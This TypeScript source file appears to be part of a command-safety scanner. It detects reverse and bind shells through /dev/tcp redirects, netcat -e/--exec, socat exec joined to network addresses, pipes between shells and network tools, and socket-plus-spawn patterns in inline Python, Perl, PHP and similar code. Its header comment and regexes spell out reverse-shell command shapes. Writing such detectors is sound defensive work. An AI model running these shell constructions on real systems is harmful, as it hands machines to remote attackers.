// Reverse and bind shells: a shell or interpreter wired to a network connection, which hands the
// machine to whoever is at the other end. Recognised by construction where the shape is shell
// syntax — a shell whose input or output is redirected to /dev/tcp or /dev/udp, a shell piped
// into or out of a network tool (`cat f | sh -i 2>&1 | nc h p > f`), netcat's program options
// (`nc -e`, `ncat --exec/--sh-exec`), socat joining an `exec:`/`system:` address to a network
// one — and, in inline interpreter code, by a socket opened in the same program that starts a
// shell or a process (`socket … pty.spawn`, `fsockopen … exec`, `IO::Socket … exec`).
import { SHELLS as SHELL_NAMES, type Lang } from './interpreters.ts';
import type { Cmd, Word } from './model.ts';
import type { Hit } from './rules.ts';
import { show } from './model.ts';
import { baseName } from './wrappers.ts';

/** The shells interpreters.ts knows, and busybox, whose `sh` applet is one. */
const SHELLS: ReadonlySet<string> = new Set([...SHELL_NAMES, 'busybox']);
const INTERPRETERS = /^(python[0-9.]*|pypy[0-9.]*|perl|ruby|node|nodejs|php|lua|luajit|[gmn]?awk|irb|tclsh|wish|expect)$/;
const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'pwncat', 'sbd', 'gsocket']);
const NET_TOOLS = new Set([...NETCATS, 'telnet', 'socat', 'openssl', 'ssh', 'websocat', 'curl', 'wget']);

function reverse(word: Word | undefined, detail: string): Hit {
  return { kind: 'shell.reverse_shell', severity: 'critical', detail, ...(word ? { word } : {}) };
}

/** A command's base name in lower case, as judge.ts compares names. */
function base(value: string): string {
  return baseName(value).toLowerCase();
}

function isShellish(name: string): boolean {
  return SHELLS.has(name) || INTERPRETERS.test(name);
}

/** Reverse-shell findings for one command (`name` is its lower-cased base name). */
export function reverseShellHits(cmd: Cmd, name: string): Hit[] {
  const hits: Hit[] = [];
  if (isShellish(name)) {
    const target = networkRedirect(cmd);
    if (target) hits.push(reverse(undefined, `${name}'s input or output is redirected to the network (${show(target)})`));
  }
  if (NETCATS.has(name)) hits.push(...netcat(cmd, name));
  if (name === 'socat') hits.push(...socat(cmd));
  const piped = pipeStages(cmd);
  if (NET_TOOLS.has(name)) {
    const shell = piped.find(isInteractiveShell);
    if (shell) hits.push(reverse(undefined, `the output of an interactive ${base(shell.argv[0]!.value)} is piped into ${name} (a shell on a network connection)`));
  }
  if (SHELLS.has(name)) {
    const net = piped.find((c) => NET_TOOLS.has(base(c.argv[0]!.value)) && !['curl', 'wget'].includes(base(c.argv[0]!.value)));
    if (net) hits.push(reverse(undefined, `${name} reads commands from ${base(net.argv[0]!.value)} (a shell on a network connection)`));
  }
  return hits;
}

/** A shell that reads its commands from standard input or runs interactively (`sh -i`, `bash`, `sh -s`), not one running a script or -c code. */
function isInteractiveShell(c: Cmd): boolean {
  if (!SHELLS.has(base(c.argv[0]!.value))) return false;
  const args = c.argv.slice(1).map((w) => w.value);
  if (args.some((a) => /^-[a-zA-Z]*i/.test(a) || /^-[a-zA-Z]*s/.test(a))) return true;
  return !args.some((a) => !a.startsWith('-') || /^-[a-zA-Z]*c/.test(a));
}

/** The commands before this one in its pipeline. */
function pipeStages(cmd: Cmd): Cmd[] {
  const s = cmd.stdin;
  if (s.kind !== 'pipe') return [];
  return s.level.cmds.filter((c) => c.start >= s.start && c.end <= s.end);
}

/** A /dev/tcp or /dev/udp path among the command's own redirections (or those of the statement it is the body of). */
function networkRedirect(cmd: Cmd): string | undefined {
  const node = cmd.node;
  if (!node) return undefined;
  const redirects = [...node.children, ...(node.parent?.type === 'redirected_statement' ? node.parent.children : [])].filter((c) => c.type === 'file_redirect');
  for (const r of redirects) {
    for (const d of r.children) {
      if (d.field !== 'destination') continue;
      const text = cmd.level.text.slice(d.start, d.end).replace(/["']/g, '');
      if (/^\/dev\/(tcp|udp)\//.test(text)) return text;
    }
  }
  return undefined;
}

/** netcat's options that run a program on the connection: -e PROG, -c CMD, --exec, --sh-exec, --lua-exec. */
function netcat(cmd: Cmd, name: string): Hit[] {
  const args = cmd.argv.slice(1);
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value;
    const long = /^--(exec|sh-exec|lua-exec)(?:=(.*))?$/s.exec(v);
    if (long) return [reverse(args[i], `${name} --${long[1]} runs ${show(long[2] ?? args[i + 1]?.value ?? 'a program')} on a network connection`)];
    const short = /^-[a-zA-Z]*([ec])(.*)$/s.exec(v);
    if (short && !v.startsWith('--')) return [reverse(args[i], `${name} -${short[1]} runs ${show(short[2] || args[i + 1]?.value || 'a program')} on a network connection`)];
  }
  return [];
}

const SOCAT_NET = /^(tcp[46]?|tcp[46]?-(listen|l|connect)|udp[46]?|udp[46]?-(listen|l|connect|recvfrom|sendto)|openssl|openssl-(listen|connect)|ssl|ssl-l|sctp[46]?|sctp-(listen|connect)|socks[45]a?|proxy|proxy-connect|vsock-(connect|listen)|dccp-(connect|listen))(:|$)/i;

/** socat joining a program (`exec:`, `system:`) to a network address. */
function socat(cmd: Cmd): Hit[] {
  const addresses = cmd.argv.slice(1).filter((w) => !w.value.startsWith('-') || w.value === '-');
  const program = addresses.find((w) => /^(exec|system):/i.test(w.value));
  const net = addresses.find((w) => SOCAT_NET.test(w.value));
  return program && net ? [reverse(program, `socat joins ${show(program.value.split(',')[0]!)} to the network address ${show(net.value.split(',')[0]!)}`)] : [];
}

/** What opens a connection, and what starts a shell or a process, in each language's inline code. */
const SOCKET: Partial<Record<Lang, RegExp>> = {
  python: /\bsocket\s*\.\s*(socket|create_connection)\b|\bsocket\(\s*\)|\bfrom\s+socket\s+import|\bcreate_connection\s*\(/,
  perl: /\bIO::Socket\b|\bsocket\s*\(|\buse\s+Socket\b/,
  ruby: /\bTCPSocket\b|\bTCPServer\b|\bSocket\.(new|tcp)\b|\bUNIXSocket\b/,
  node: /require\(\s*['"](node:)?net['"]\s*\)|\bnet\.(connect|createConnection|Socket)\b|from\s+['"](node:)?net['"]/,
  php: /\bfsockopen\s*\(|\bstream_socket_(client|server)\s*\(|\bsocket_create\s*\(/,
  lua: /\bsocket\.(tcp|connect|bind)\b|require\s*\(?\s*['"]socket['"]/,
  awk: /\/inet[46]?\/(tcp|udp)\//,
  other: /\bsocketConnection\s*\(|\bmake-socket\b/,
};
const SPAWN = /\bpty\.spawn\b|\bdup2\b|\/bin\/(ba|z|da|k|c|tc)?sh\b|["'](ba|z|da)?sh["']|\bcmd\.exe\b|\bproc_open\b|\bspawn\w*\s*\(|child_process|\bexec\w*\s*\(|\bsystem\s*\(|\bpopen\w*\s*\(|\bshell_exec\b|\bpassthru\b|IO\.popen|\bos\.execute\b|\bsubprocess\b|\|&|\bgetline\b/;

/** A reverse-shell hit when inline code both opens a socket and starts a shell or a process. */
export function inlineReverseShell(lang: Lang, code: string): Hit | undefined {
  const socket = SOCKET[lang];
  if (!socket || !socket.test(code) || !SPAWN.test(code)) return undefined;
  return reverse(undefined, `${lang} code opens a network connection and starts a shell or a process on it`);
}
